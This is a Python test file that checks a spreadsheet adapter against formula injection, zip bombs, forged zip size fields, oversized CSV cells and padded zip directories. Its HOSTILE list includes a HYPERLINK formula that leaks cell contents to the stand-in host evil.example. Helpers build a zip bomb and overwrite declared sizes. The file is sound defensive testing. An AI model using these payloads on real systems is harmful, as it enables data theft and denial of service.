"""Spreadsheets in and out, as a hostile or careless user makes them: user text never becomes a formula in an
exported register; a class list is bounded (unpacked size, rows) before it is parsed, and every row is read
whatever the sheet's ``<dimension>`` claims."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable, Sequence
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook

from service.adapters.spreadsheet import read_table, write_table
from service.errors import InvalidRequest, TooLarge

HEADER = ["STT", "Họ và tên", "Ngày sinh", "Đơn vị công tác"]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"]


def xlsx(rows: Sequence[Sequence[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite(data: bytes, member: str, change: Callable[[str], str]) -> bytes:
    """The same XLSX with one member's text changed by ``change`` (a function of the text)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info)
            if info.filename == member:
                content = change(content.decode()).encode()
            dst.writestr(info.filename, content)
    return out.getvalue()


def students(n: int) -> list[list[object]]:
    return [[i, f"Nguyễn Văn {i}", "01/01/1990", "Xã A"] for i in range(1, n + 1)]


def sheet_cells(data: bytes) -> list[ElementTree.Element]:
    """The ``<c>`` elements of the first sheet, parsed from the saved file's XML."""
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    return list(ElementTree.fromstring(xml).iter(f"{MAIN}c"))


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def test_user_text_goes_into_the_register_as_text_never_as_a_formula() -> None:
    rows: list[list[object]] = [[h, f"{h}; Ban Giám hiệu"] for h in HOSTILE]
    data = write_table("Sổ", ["Người ký", "Nơi nhận"], [*rows, [7, "x"]])
    cells = sheet_cells(data)
    assert not [c.get("r") for c in cells if c.find(f"{MAIN}f") is not None]  # no formula anywhere
    texts = ["".join(t.text or "" for t in c.iter(f"{MAIN}t")) for c in cells if c.get("t") == "inlineStr"]
    for hostile in HOSTILE:
        assert hostile in texts and f"{hostile}; Ban Giám hiệu" in texts
    (seven,) = [c for c in cells if c.get("r") == "A7"]
    assert seven.get("t") in (None, "n") and seven.findtext(f"{MAIN}v") == "7"  # numbers stay numbers
    styles = zipfile.ZipFile(io.BytesIO(data)).read("xl/styles.xml").decode()
    assert 'quotePrefix="1"' in styles  # Excel and Calc keep the text as text when the cell is edited


def test_every_row_is_read_whatever_the_dimension_says() -> None:
    data = rewrite(xlsx([HEADER, *students(5)]), "xl/worksheets/sheet1.xml", _dimension("A1:C2"))
    assert '<dimension ref="A1:C2"/>' in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    header, rows = read_table(data, "lop.xlsx")
    assert header == HEADER
    assert [n for n, _ in rows] == [2, 3, 4, 5, 6]
    assert rows[-1][1] == [5, "Nguyễn Văn 5", "01/01/1990", "Xã A"]  # the column past C too


def _dimension(ref: str) -> Callable[[str], str]:
    return lambda xml: re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>', xml)


def test_a_zip_bomb_is_refused_from_its_directory_before_parsing() -> None:
    # a sheet of 300 000 rows: small packed (repetitive XML), tens of MB unpacked
    row = '<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>Nguyễn Văn An</t></is></c></row>'
    body = "".join(row.format(n=n) for n in range(2, 300_002))
    sheet = "xl/worksheets/sheet1.xml"
    data = rewrite(xlsx([HEADER]), sheet, lambda xml: xml.replace("</sheetData>", body + "</sheetData>"))
    assert len(data) < 2_000_000
    with pytest.raises(TooLarge) as refused:
        read_table(data, "lop.xlsx", max_unpacked_bytes=10 * 1_048_576)
    assert refused.value.status_code == 413
    assert "MB" in refused.value.message_en and "MB" in refused.value.message_vi


def test_too_many_rows_are_refused_and_reading_stops_there() -> None:
    data = xlsx([HEADER, *students(120)])
    with pytest.raises(InvalidRequest) as refused:
        read_table(data, "lop.xlsx", max_rows=100)
    (error,) = refused.value.errors
    assert error.path == "file" and "100" in error.message_en and "100" in error.message_vi
    assert len(read_table(data, "lop.xlsx", max_rows=120)[1]) == 120


def test_declared_sizes_that_lie_do_not_let_more_through() -> None:
    """The zip directory says the sheet is tiny: reading stops at the declared size and the file is refused."""
    data = xlsx([HEADER, *students(2000)])
    lied = _declare_size(data, "xl/worksheets/sheet1.xml", 1000)
    with pytest.raises(InvalidRequest) as refused:
        read_table(lied, "lop.xlsx")
    assert refused.value.errors[0].path == "file"


def _declare_size(data: bytes, member: str, size: int) -> bytes:
    """Overwrite the uncompressed size of ``member`` in the local header and the central directory."""
    buf = bytearray(data)
    name = member.encode()
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := buf.find(signature, start)) >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if buf[name_at : name_at + len(name)] == name:
                struct.pack_into("<I", buf, at + offset, size)
            start = at + 4
    return bytes(buf)


def test_csv_is_bounded_too() -> None:
    text = "\n".join([",".join(HEADER)] + [",".join(map(str, r)) for r in students(50)]).encode()
    with pytest.raises(InvalidRequest):
        read_table(text, "lop.csv", max_rows=10)
    with pytest.raises(TooLarge):
        read_table(text, "lop.csv", max_unpacked_bytes=100)
    assert len(read_table(text, "lop.csv")[1]) == 50


def test_a_csv_cell_too_long_for_the_reader_is_refused_naming_its_line() -> None:
    """One gigantic cell (or a whole file on one line, no newline) was a csv.Error: a plain 500 from the API."""
    big = "\n".join([",".join(HEADER), "1,Nguyễn Văn An,01/01/1990,Xã A", "2," + "a" * 200_000 + ",01/01/1990,Xã B"])
    with pytest.raises(InvalidRequest) as refused:
        read_table(big.encode(), "lop.csv")
    (error,) = refused.value.errors
    assert error.path == "file" and "line 3" in error.message_en and "dòng 3" in error.message_vi
    with pytest.raises(InvalidRequest):
        read_table(b"x" * 3_000_000, "lop.csv")


def _with_members(data: bytes, count: int) -> bytes:
    """The same XLSX with ``count`` extra empty members: nothing to unpack, a long zip directory to parse."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        for i in range(count):
            dst.writestr(f"x/{i}", b"")
    return out.getvalue()


def test_a_zip_directory_of_many_empty_members_is_refused_before_it_is_parsed() -> None:
    """Empty members unpack to nothing, so the unpacked bound let them through: half a million of them in a 43 MB
    upload cost the API 8 s and close to 1 GB before the file was refused."""
    data = _with_members(xlsx([HEADER, *students(3)]), 20_000)
    with pytest.raises(InvalidRequest) as refused:
        read_table(data, "lop.xlsx")
    (error,) = refused.value.errors
    assert error.path == "file" and "zip directory" in error.message_en
    with pytest.raises(TooLarge):  # an upload bigger than what it may unpack to: refused before the zip is opened
        read_table(data, "lop.xlsx", max_unpacked_bytes=len(data) - 1)
    assert len(read_table(_with_members(xlsx([HEADER, *students(3)]), 200), "lop.xlsx")[1]) == 3
